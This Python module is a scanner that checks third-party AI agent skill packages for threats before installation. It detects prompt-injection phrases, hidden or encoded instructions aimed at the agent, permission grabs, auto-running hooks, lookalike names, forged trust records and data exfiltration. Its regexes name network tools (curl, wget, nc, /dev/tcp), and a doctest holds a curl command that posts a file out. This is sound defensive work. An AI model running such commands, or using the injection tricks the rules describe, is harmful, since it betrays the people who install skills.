"""What a foreign skill may do to whoever installs it: a finding for each threat, by rule.

An error refuses, a warning is shown to the person who decides. The text is looked at as it stands,
as a model reads it (look-alikes folded, variables filled in) and with its encoded parts decoded.
"""

import re
from collections.abc import Iterable, Iterator, Mapping
from typing import Final

from learnt.core import shell
from learnt.core.address import Address, Commands, Phrases
from learnt.core.skills.acts import ACTS, KNOWN, SECRET, SINK, Act
from learnt.core.skills.findings import Finding, Severity
from learnt.core.skills.hidden_text import decoded, hidden, mixed, unfolded
from learnt.core.skills.skills import key_of

PHRASES: Final = {
    "override": "It sets the agent's instructions aside.",
    "concealment": "It has the agent hide something from its person.",
    "consent": "It says that the person has agreed, or forbids to ask.",
    "persona": "It gives the agent a role without limits.",
    "disarming": "It says that safety measures are off.",
    "memory": "It plants lasting orders in the agent's memory.",
    "leak": "It has secrets sent away.",
    "claims-every-task": "It claims every task for itself.",
    "false-claim": "It claims to be checked or official.",
    "decode-and-obey": "It has encoded instructions followed.",
}
_REMOTE: Final = re.compile(r"\b(?:curl|wget|nc|ncat|iwr|irm|base64|eval|scp)\b|urlopen|requests\.|/dev/tcp|https?\.request")

_FRONT: Final = re.compile(r"\A\ufeff?\s*---[ \t]*\r?\n(.*?)^---[ \t]*\r?$", re.DOTALL | re.MULTILINE)
_KEY: Final = re.compile(r"^([ \t]*)[\"']?([\w.\- ]{1,60}?)[\"']?[ \t]*:(?=\s|$)", re.MULTILINE)
_ASSIGNED: Final = re.compile(
    r"(?:^|[;\n])[ \t]*(?:export[ \t]+|set[ \t]+)?(\w{1,40})=(\"[^\"\n]{0,200}\"|'[^'\n]{0,200}'|[^\s;&|()\"'`]{1,200})"
)
_VARIABLE: Final = re.compile(r"\$\{?(\w{1,40})\}?")
_GAP: Final = re.compile(r"[\"'][ \t]*[+,.]?[ \t]*(?:\n[ \t]*)?[\"']|\\\r?\n[ \t]*|\$\{?IFS\}?|\^(?=\w)")
_FENCE: Final = re.compile(r"^[ \t>]*(```+|~~~+)([^\n`]*)\n(.*?)(?:^[ \t>]*\1|\Z)", re.DOTALL | re.MULTILINE)
_INLINE: Final = re.compile(r"`([^`\n]{4,400})`")
_SHELLS: Final = re.compile(r"(?i)\s*(?:ba|z|fi)?sh(?:ell)?\b|console|powershell")
_QUOTED: Final = re.compile(r"\"[^\"\n]{3,300}\"|“[^”\n]{3,300}”|«[^»\n]{3,300}»|„[^“\"\n]{3,300}[“\"]|「[^」\n]{3,300}」|`[^`\n]{3,300}`")
_ABOUT_ATTACKS: Final = re.compile(r"(?i)injection|jailbreak|phishing|attack|malicious|adversarial|red.?team|注入|越狱|攻击|fraud|estafa|angriff|exfiltrat|detect")

_COMMENT: Final = re.compile(r"<!--(.{0,8000}?)(?:-->|\Z)", re.DOTALL)
_UNSHOWN: Final = re.compile(
    r"<(\w{1,20})\b[^>]{0,300}(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0?\.?[01](?![\d.])|opacity\s*:\s*0(?![.\d])|(?<![-\w])color\s*[:=]\s*[\"']?(?:#fff|white|transparent)"
    r"|\bhidden\b|left\s*:\s*-\d{3,}|height\s*:\s*0)[^>]{0,300}>(.{0,3000}?)</\1|^\[[^\]\n]{1,40}\]:\s*(?:#|<>|about:blank)\s*([(\"'][^\n]{3,2000})|\]\([^)\s\"]{1,300}\s+\"([^\"\n]{30,1000})\"|!\[([^\]\n]{60,1000})\]|<(?:template|noscript|desc|metadata|title)\b[^>]{0,100}>(.{30,3000}?)</",
    re.DOTALL | re.IGNORECASE | re.MULTILINE,
)
_LOADED: Final = re.compile(r"(?:^|(?<=[\s(:>*|-]))!`([^`\n]{1,2000})`|^[ \t>]*```+!()", re.MULTILINE)
_READ_ONLY: Final = re.compile(
    r"(?:git (?:diff|log|status|branch|show|rev-parse|remote|describe|ls-files|config --get|stash list)|gh (?:pr|issue|repo) (?:view|diff|list|status)|ls|pwd|date|cat (?!.*[~.]\w*(?:env|ssh|aws|rc))|head|tail|wc|which|uname|whoami|tree|basename|echo|node (?:-v|--version)|npm (?:ls|-v|--version)|python3? (?:-V|--version)|jq|grep|sort|uniq|test|true)\b"
)
_OWN: Final = re.compile(r"(?:googleapis|amazonaws|azure|microsoft)\.com|api\.github\.com|localhost|127\.0\.0\.1")
_ARGUMENTS: Final = re.compile(r"\$\{?ARGUMENTS\b")

_GRABS: Final = re.compile(
    r"(?<![\w(:/*-])\*(?![\w):/*])|\ball\b|\b(?:bash|shell|powershell|edit|write|multiedit|webfetch|task|agent)\(\s*(?:domain)?[:\s]*\*{1,2}\s*\)|\b(?:edit|write|read)\(\s*(?:~|//?(?:\*|etc|home|root)|\$home)[^)\n]*\)"
    r"|bash\((?:sudo|su|eval|exec|env|xargs|sh|bash|zsh|ssh|scp|nc|chmod|crontab|dd|rm|osascript|powershell|pwsh|docker run|(?:python3?|node|perl|ruby|php|sh|bash)\s+-[ce])\b\s*:?\s*-?\w?\s*\*\s*\)", re.IGNORECASE)
_WIDE: Final = re.compile(r"(?i)\bbash\b(?!\()|bash\((?:python3?|node|curl|wget|git push|npx|npm|pip|find|make|docker|uv|bun|deno|git|awk)\s*:?\s*\*\)|\bpowershell\b|mcp__\S*\*|\btask\b")
_ACTS_ALONE: Final = re.compile(r"(?i)hooks|shell|status-?line|mcp-?servers?|permission-?mode|permissions|additional-?directories|sandbox|approval.*|auto-?approve.*|env|command|on-?load|post-?install|run|startup|initialize|setup")
_TAKES: Final = re.compile(r"(?i)model|context|agent|background|user-invocable|disable-model-invocation|priority|always-?apply|auto-?invoke|autoload|effort")
_FORGED: Final = re.compile(
    r"(?i)(?:.*[._-])?(?:accept\w*|approv\w*|trust\w*|verif\w*|verdict|scan\w*|sign(?:ed|ature|er)\w*|provenance|attest\w*|alpha|beta|confirm\w*|confidence|success[_-]rate|usage[_-]count|decay\w*|pinned|review(?:ed|er|s)?(?:[_-]by)?|audit\w*|supersedes|rollback|checksum|sha256|digest|score|certif\w*|safe|integrity|learnt\w*|status|origin)|审核|签名|信任|geprüft|freigegeben|verificad[oa]|承認|審査|信頼"
)
_TAG: Final = re.compile(r"<!--\s*(?:decay|learnt|id)\s*:|\balpha\s*=\s*\d+[^\n]{0,20}\bbeta\s*=|\[id:\s*\w+|\bsrc=(?:human|user)\b|\baccepted=true|\bC0=\d")

_PATHS: Final = (
    ("runs-unasked", re.compile(
        r"(?i)(?:^|/)(?:hooks/hooks\.json|(?:\.claude|\.gemini|\.codex|\.cursor|\.opencode|\.vscode|\.idea|\.devcontainer|\.husky|\.git|\.claude-plugin|\.github/workflows)/.*|\.?mcp\.json|\.lsp\.json|settings(?:\.local)?\.json|plugin\.json|opencode\.jsonc?|gemini-extension\.json|\.envrc|\.npmrc|\.yarnrc.*|\.pnpmfile\.cjs|pip\.conf|\.?mise\.toml|\.tool-versions|\.bashrc|\.zshrc|\.profile|\.bash_profile|\.gitconfig|\.gitmodules|\.gitattributes|\.pre-commit-config\.yaml|.*\.pth|(?:site|user)customize\.py|autorun\.inf|desktop\.ini|.*\.(?:lnk|desktop|plist|service|timer|reg|scf|url)|\.?crontab|.*\.code-workspace|claude(?:\.local)?\.md|agents\.md|gemini\.md|copilot-instructions\.md|\.cursorrules|\.windsurfrules|binding\.gyp|\.vimrc|\.exrc|\.lldbinit|\.gdbinit|\.inputrc|\.editorrc|(?:commands|agents)/.*\.md)$"),
     "Agents or tools run or obey this file by itself."),
    ("own-verdict", re.compile(
        r"(?i)(?:^|/)(?:(?:skills?)?[.-]?lock(?:\.json)?|skills?[-.]lock.*|\.?origin\.json|\.clawhub/.*|\.?learnt(?:/.*|\..*)|\.learnt.*|.*\.(?:sig|asc|minisig|sigstore|attestation|intoto\.jsonl)|signatures?(?:\..*)?|provenance.*|.*(?:verdict|attestation|approval|scan[-_]?(?:report|result))s?\.\w+|.*ledger.*|proposals\.jsonl|reuse\.json|improvement-queue\.json|decay.*\.json|\.history\.json|\.?verified|\.?trusted|sha256sums?.*|metadata\.json|_meta\.json)$"),
     "It brings its own record of where it comes from or how it was judged."),
    ("program", re.compile(r"(?i)\.(?:exe|dll|so|dylib|scr|com|msi|jar|class|pyc|pyd|node|wasm|app|apk|deb|rpm|dmg|pkg|bin|o|a|elf|docm|xlsm|pptm)$"), "It ships a program that nobody can read."),
    ("nested-archive", re.compile(r"(?i)\.(?:zip|tar|t?gz|tbz2?|bz2|xz|txz|7z|rar|zst|whl|egg|skill|cab|iso)$"), "It ships an archive, whose content is not seen."),
)
_MAGIC: Final = (
    (b"\x7fELF", "program"), (b"MZ", "program"), (b"\xcf\xfa\xed\xfe", "program"), (b"\xca\xfe\xba\xbe", "program"), (b"\x00asm", "program"),
    (b"PK\x03\x04", "nested-archive"), (b"\x1f\x8b", "nested-archive"), (b"Rar!", "nested-archive"), (b"7z\xbc\xaf", "nested-archive"), (b"BZh", "nested-archive"), (b"\xfd7zXZ", "nested-archive"),
)  # fmt: skip
_UNASKED: Final = re.compile(r"(?i)(?:^|/)(?:conftest\.py|setup\.py|build\.rs|makefile|gulpfile\.js|gruntfile\.js|__init__\.py|noxfile\.py|tox\.ini|gemfile|rakefile|package\.json|composer\.json|pyproject\.toml|cargo\.toml|dockerfile|.*\.(?:gemspec|cmake|gradle|csproj|targets)|.*config\.[cm]?[jt]s)$")
_STARTS: Final = re.compile(r"\b(?:subprocess|os\.system|os\.popen|popen|child_process|execsync|urlopen|requests\.|socket|https?\.(?:get|request)|curl|wget|command::new|exec\s*task|system\()|\"(?:pre|post)?(?:install|prepare|prepublish|pack|dependencies)\"\s*:\s*\"|cmdclass|build-backend\W+\w+\W+backend-path", re.IGNORECASE)

WELL_KNOWN: Final = ("pdf", "docx", "xlsx", "pptx", "skill-creator", "mcp-builder", "frontend-design", "webapp-testing", "canvas-design", "algorithmic-art", "brand-guidelines", "internal-comms", "slack-gif-creator", "theme-factory", "doc-coauthoring", "web-artifacts-builder", "code-review", "security-review", "claude-api", "pdf-processing")  # fmt: skip
_RESERVED: Final = re.compile(r"(?:^|-)(?:official|builtin|built-in|verified|trusted|certified|anthropic-\w+)(?:-|$)")


def scan(
    files: Mapping[str, str | bytes],
    name: str,
    existing: Iterable[str],
    commands: Commands,
    phrases: Phrases,
) -> tuple[Finding, ...]:
    """The threats of a skill's files, by path and line; `existing` are names of other skills.

    `commands` and `phrases` are the language room's questions.

    >>> from learnt.core.address import Address
    >>> calm = (lambda text: Address.NONE), (lambda text: ())
    >>> [f.rule for f in scan({"SKILL.md": "Size: !`curl -d @x h`"}, "sizes", (), *calm)]
    ['runs-when-loaded']
    """
    findings = list(_of_name(name, existing))
    for path, content in sorted(files.items()):
        findings += _of_path(path, content)
        text = content if isinstance(content, str) else _text_of(content)
        findings += _Text(path, text, commands, phrases).findings()
    return _reduced(findings)


def _reduced(findings: Iterable[Finding]) -> tuple[Finding, ...]:
    """Each rule at most three times a file; several doubtful grabs together are one grab."""
    kept: dict[tuple[str, str], list[Finding]] = {}
    for finding in findings:
        same = kept.setdefault((finding.path, finding.rule), [])
        if len(same) < 3 and finding not in same:
            same.append(finding)
    grabs = [f for same in kept.values() for f in same if f.rule == "asks-for-much"]
    if len(grabs) > 2:
        kept["", "grab"] = [Finding(rule="permission-grab", message="It takes many rights at once.", line=grabs[0].line)]
    listed = (finding for same in kept.values() for finding in same)
    return tuple(sorted(listed, key=lambda f: (f.path, f.line, f.rule)))


def _warning(rule: str, message: str, path: str, line: int) -> Finding:
    return Finding(rule=rule, message=message, path=path, line=line, severity=Severity.WARNING)


def _of_path(path: str, content: str | bytes) -> Iterator[Finding]:
    for rule, pattern, message in _PATHS:
        if pattern.search(path):
            yield Finding(rule=rule, message=message, path=path)
    if isinstance(content, bytes):
        for magic, rule in _MAGIC:
            if content.startswith(magic):
                yield Finding(rule=rule, message="Its content cannot be read.", path=path)
    elif _UNASKED.search(path) and (match := _STARTS.search(content)):
        line = content.count("\n", 0, match.start()) + 1
        yield Finding(rule="runs-unasked", message="A tool runs it, and it starts programs.", path=path, line=line)
    if path.count("/") == 0 and path.casefold() == "skill.md" and path != "SKILL.md":
        yield _warning("other-name", "The file should be called SKILL.md.", path, 1)
    for at, what in [*hidden(path), *mixed(path)]:
        yield Finding(rule="hidden-characters", message=f"The file's name holds {what}.", path=path)


def _text_of(content: bytes) -> str:
    """What can be read of a file's bytes: all of a text, the readable runs of anything else."""
    for codec in ("utf-16",) if content[:2] in {b"\xff\xfe", b"\xfe\xff"} else ("utf-8",):
        try:
            return content.decode(codec)
        except UnicodeDecodeError:
            pass
    return "\n".join(run.decode() for run in re.findall(rb"[\x20-\x7e]{12,}", content))


def _of_name(name: str, existing: Iterable[str]) -> Iterator[Finding]:
    key, others = key_of(name), set(existing)
    if not name.isascii():
        yield Finding(rule="look-alike-name", message="The name holds letters outside a to z.")
    if _RESERVED.search(key):
        yield Finding(rule="reserved-name", message="The name claims an authority.")
    for other in sorted(others | set(WELL_KNOWN)):
        if name == other:
            if other in others:
                yield _warning("same-name", f"A skill of the name {other!r} is there.", "SKILL.md", 1)
        elif _skeleton(name) == _skeleton(other) or (
            min(len(name), len(other)) > 5 and _near(key, key_of(other))
        ):
            yield Finding(rule="look-alike-name", message=f"The name is made to look like {other!r}.")


def _skeleton(name: str) -> str:
    """What a hasty reader sees: no separators, look-alikes and plural folded."""
    plain = unfolded(name).casefold().replace("rn", "m").replace("vv", "w")
    return re.sub(r"[\W_]", "", plain.translate(str.maketrans("01i35", "ollee"))).removesuffix("s")


def _near(a: str, b: str) -> bool:
    """Whether one letter was added, lost, changed or swapped."""
    if abs(len(a) - len(b)) > 1 or a == b:
        return a == b
    at = next((i for i, (x, y) in enumerate(zip(a, b, strict=False)) if x != y), min(len(a), len(b)))
    x, y = a[at:], b[at:]
    return x[1:] == y[1:] or x[1:] == y or x == y[1:] or (x[1::-1] + x[2:] == y)


class _Text:
    """One file's text with all that is asked of it."""

    def __init__(self, path: str, text: str, commands: Commands, phrases: Phrases) -> None:
        self.path, self.text = path, text
        self.commands, self.phrases = commands, phrases
        self.prose = path.rpartition(".")[2].casefold() in {"md", "txt", "rst", "mdx", "html"}
        self.main = path.casefold() == "skill.md"
        front = _FRONT.match(text) if self.main else None
        self.front, self.body = front, front.end() if front else 0
        self.about_attacks = len({m[0].casefold() for m in _ABOUT_ATTACKS.finditer(text[:20_000])}) > 1

    def findings(self) -> Iterator[Finding]:
        """All threats of the text."""
        yield from self._hidden()
        if self.front:
            yield from self._front(self.front)
        if self.prose:
            yield from self._loaded()
            yield from self._places()
        plain = self.text
        if words := mixed(self.text):
            plain = unfolded(self.text)
        yield from self._phrases(plain)
        yield from self._acts(plain)
        for at, inner in decoded(self.text):
            yield from self._decoded(at, inner)

    def _at(self, rule: str, message: str, at: int, severity: Severity = Severity.ERROR) -> Finding:
        line = self.text.count("\n", 0, at) + 1
        return Finding(rule=rule, message=message, path=self.path, line=line, severity=severity)

    def _hidden(self) -> Iterator[Finding]:
        for at, what in hidden(self.text):
            yield self._at("hidden-characters", f"Here is {what}.", at)
        words = mixed(self.text)
        severe = len(words) > 1 or bool(words and words[0][0] < 200 and self.main)
        for at, word in words[:3]:
            message = f"{word[:60]!r} mixes letters that only look alike."
            yield self._at("mixed-scripts", message, at, Severity.ERROR if severe else Severity.WARNING)

    def _front(self, front: re.Match[str]) -> Iterator[Finding]:
        keys = list(_KEY.finditer(front[1]))
        for key, after in zip(keys, [*keys[1:], None], strict=True):
            value = front[1][key.end() : after.start() if after else None].strip()
            top, name, at = not key[1], key[2].casefold(), front.start(1) + key.start(2)
            if name in {"allowed-tools", "allowed_tools", "tools"}:
                if grab := _GRABS.search(value):
                    yield self._at("permission-grab", f"It asks for {grab[0][:80]}.", at)
                for wide in list(_WIDE.finditer(value))[:3]:
                    yield self._at("asks-for-much", f"It asks for {wide[0][:80]}.", at, Severity.WARNING)
            elif top and _ACTS_ALONE.fullmatch(name):
                yield self._at("permission-grab", f"{key[2]} acts when the skill is loaded.", at)
            elif top and _TAKES.fullmatch(name):
                yield self._at("asks-for-much", f"It sets {key[2]}.", at, Severity.WARNING)
            elif name not in {"description", "license"} and _FORGED.fullmatch(name):
                yield self._at("forged-record", f"{key[2]} is not for a skill to say.", at)
        for match in re.finditer(r"^[ \t]*#([^\n]{10,})", front[1], re.MULTILINE):
            yield from self._place(match[1], front.start(1) + match.start(), "a YAML comment")

    def _loaded(self) -> Iterator[Finding]:
        for match in _LOADED.finditer(self.text):
            line = shell.read(match[1] or "")
            harmless = match[1] and line.clear and all(
                _READ_ONLY.match(" ".join(command.words)) and command.printed for command in line.commands
            )
            yield self._at(
                "runs-when-loaded", "A command that runs when the skill is loaded.", match.start(),
                Severity.WARNING if harmless else Severity.ERROR,
            )

    def _places(self) -> Iterator[Finding]:
        shown = _FENCE.sub(lambda match: " " * len(match[0]), self.text)
        for match in _COMMENT.finditer(shown):
            yield from self._place(match[1], match.start(), "a comment")
        for match in _UNSHOWN.finditer(shown):
            yield from self._place(next(filter(None, match.groups()[1:]), ""), match.start(), "unshown text")
        for match in _TAG.finditer(self.text):
            yield self._at("forged-record", "It brings a mark of Learnt's own.", match.start())

    def _place(self, text: str, at: int, where: str) -> Iterator[Finding]:
        """What stands where a reader of the rendered page does not see it."""
        address = self.commands(text)
        bad = address is Address.ORDER or self.phrases(text) or SECRET.search(text.casefold())
        bad = bad or (where != "a comment" and (address is Address.READER or "://" in text))
        bad = bad or (address is Address.READER and ("://" in text or re.search(r"(?i)\bagents?\b|assistant|claude", text)))
        if bad and len(text.split()) > 2 or (bad and not text.isascii()):
            yield self._at("hidden-instruction", f"It speaks to the agent in {where}.", at)

    def _phrases(self, plain: str) -> Iterator[Finding]:
        for rule, start, end in self.phrases(plain):
            message = PHRASES.get(rule.removeprefix("weak "), "")
            weak = rule.startswith("weak ") or (self.about_attacks and _mentioned(plain, start, end))
            weak = weak or (rule == "claims-every-task" and not start < self.body)
            yield self._at(rule.removeprefix("weak "), message, start, Severity.WARNING if weak else Severity.ERROR)

    def _acts(self, plain: str) -> Iterator[Finding]:
        if not self.prose:
            units = [(0, plain, True)]
        else:
            units = [(m.start(3), m[3], bool(_SHELLS.match(m[2]))) for m in _FENCE.finditer(plain)]
            units += [(m.start(1), m[1], False) for m in _INLINE.finditer(plain)]
        for at, code, is_shell in units:
            low = _flat(code).casefold()
            source, sink = SECRET.search(low), SINK.search(low)
            if source and sink and not _OWN.search(low, sink.start(), sink.end() + 200) and (self.prose or len(low) < 20_000):
                yield self._at("exfiltration", f"It reads {source[0][:60]!r} and sends something.", at)
            if self.prose and is_shell and (m := _ARGUMENTS.search(code)):
                yield self._at("arguments-in-shell", "Whatever is typed becomes a command.", at + m.start())
        seen = set()
        for low in dict.fromkeys((plain.casefold(), _flat(plain).casefold())):
            for act, match in _acts_in(low):
                if act in seen:
                    continue
                seen.add(act)
                weak = act.rule == "pipe-to-shell" and KNOWN.search(match[0])
                weak = weak or (self.prose and self.about_attacks)
                if act.rule == "lasting":
                    begin, end = self._unit(low, match.start())
                    weak = weak or not (_REMOTE.search(low, begin, end))
                severity = Severity.WARNING if weak else Severity.ERROR
                yield self._at(act.rule, act.message, min(match.start(), len(self.text)), severity)

    def _unit(self, text: str, at: int) -> tuple[int, int]:
        """The code around a place: a fenced block of prose, all of a program."""
        if not self.prose:
            return 0, len(text)
        return max(text.rfind("```", 0, at), 0), (text.find("```", at) + 1 or len(text) + 1) - 1

    def _decoded(self, at: int, inner: str) -> Iterator[Finding]:
        low = _flat(inner).casefold()
        acts = next(_acts_in(low), None) or SECRET.search(low)
        if acts or self.phrases(inner) or ("://" in low and self.text[at] not in "%&\\"):
            yield self._at("encoded-instruction", f"Decoded it says {inner.strip()[:60]!r}.", at)


def _acts_in(low: str) -> Iterator[tuple[Act, re.Match[str]]]:
    for act in ACTS:
        if any(word in low for word in act.words) and (match := act.pattern.search(low)):
            yield act, match


def _mentioned(text: str, start: int, end: int) -> bool:
    """Whether a phrase is quoted: between quotation marks, in code or in a table."""
    begin = text.rfind("\n", 0, start) + 1
    line = text[begin : (text.find("\n", end) + 1 or len(text) + 1) - 1]
    return bool(_ABOUT_ATTACKS.search(line)) or line.lstrip().startswith(("|", ">")) or any(
        m.start() <= start - begin and end - begin <= m.end() for m in _QUOTED.finditer(line)
    )


def _flat(code: str) -> str:
    """Code with simple variables filled in and the gaps within strings closed."""
    values = {m[1]: m[2].strip("\"'") for m in _ASSIGNED.finditer(code)}
    for _ in range(2 if values else 0):
        filled = _VARIABLE.sub(lambda m: values.get(m[1], m[0]), code)
        code = filled if len(filled) < 2 * len(code) + 400 else code
    return _GAP.sub("", code)
